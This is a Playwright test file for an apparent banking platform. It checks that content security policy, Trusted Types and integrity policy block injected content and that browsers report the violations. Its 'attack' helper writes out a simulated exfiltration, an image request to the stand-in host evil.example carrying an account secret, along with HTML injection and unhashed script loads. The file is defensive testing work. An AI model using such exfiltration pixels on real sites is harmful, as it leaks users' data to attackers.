import { chromiumFlags } from '@bank/platform/src/testkit/chromiumFlags.ts';
import type { Page } from '@playwright/test';
import type { Bank } from '../bank/startBank.ts';
import { startTls } from '../bank/startTls.ts';
import { expect, test } from '../fixtures.ts';

// The headless shell sends no reports.
const launchOptions = { executablePath: process.env.CHROMIUM_PATH, args: chromiumFlags };
test.use({ ignoreHTTPSErrors: true, launchOptions });
// One worker plays them all: a browser of their own costs more than they do.
test.describe.configure({ mode: 'default' });

/** Runs even when the journey fails. */
const stops: (() => Promise<void>)[] = [];
test.afterEach(async () => {
  for (const stop of stops.splice(0)) await stop();
});

const fronts = {
  'over TLS, by the browser itself': async (bank: Bank) => {
    const { url, stop } = await startTls(bank);
    stops.push(stop);
    return url;
  },
  'without TLS, by the page': async ({ url }: Bank) => url,
};
for (const [how, front] of Object.entries(fronts)) {
  test(`what a browser refuses is reported ${how}, and seen on the platform page`, async ({
    page,
    launchBank,
    expectProblems,
  }) => {
    expectProblems(/TrustedHTML/, /content security policy/i, /evil\.example/, /integrity/i);
    const bank = await launchBank({ config: { platformPage: true } });
    const url = await front(bank);
    await page.goto(`${url}auth/login?token=SECRET`);
    await expect(page.getByRole('heading', { name: 'Welcome Back' })).toBeVisible();

    const scripts = await page.evaluate(attack);
    expect(scripts).toEqual({ 'of the shell': 'refused', 'of a remote': 'refused' });

    const violations = async () => (await (await page.request.get(`${url}health`)).json()).violations;
    const rules = async () => (await violations()).latest.map(({ rule }: { rule: string }) => rule).sort();
    const refused = ['img-src', 'integrity-policy', 'integrity-policy', 'require-trusted-types-for'];
    await expect.poll(rules).toEqual(refused);
    expect(JSON.stringify(await violations())).not.toContain('SECRET');
    await openPlatform(page, url);
    const reported = page.getByRole('table', { name: 'Violations that browsers have reported' });
    await expect(reported.getByRole('row', { name: /^img-src https:\/\/evil\.example \/auth\/\*/ })).toBeVisible();
    await expect(reported.getByRole('row', { name: /^require-trusted-types-for Element innerHTML/ })).toBeVisible();
    await expect(reported.getByRole('row', { name: /^integrity-policy shell\/.+\.js/ })).toBeVisible();
    await expect(reported.getByRole('row', { name: /^integrity-policy mfe-auth\/.+\.js/ })).toBeVisible();
  });
}

/** Tries a foreign picture, text as markup, scripts without their hashes. The shell's is preloaded with its hash. */
async function attack(): Promise<Record<string, string>> {
  const picture = new Image();
  picture.src = 'https://evil.example/pixel.png?account=SECRET';
  try {
    document.body.innerHTML = '<b>SECRET</b>';
  } catch {
    // Refused, as expected.
  }
  const load = (selector: string) =>
    new Promise<string>((resolve) => {
      const script = document.createElement('script');
      script.src = document.querySelector<HTMLScriptElement>(selector)?.src ?? '';
      script.onload = () => resolve('ran');
      script.onerror = () => resolve('refused');
      document.head.append(script);
    });
  return {
    'of the shell': await load('script[integrity][src*="/shell/"]'),
    'of a remote': await load('script[integrity][src*="/mfe-auth/"]'),
  };
}

async function openPlatform(page: Page, url: string): Promise<void> {
  await page.evaluate(() => localStorage.setItem('bank:session', 'signed-in'));
  await page.goto(`${url}platform`);
  await expect(page.getByRole('heading', { level: 1, name: 'Platform' })).toBeVisible();
}
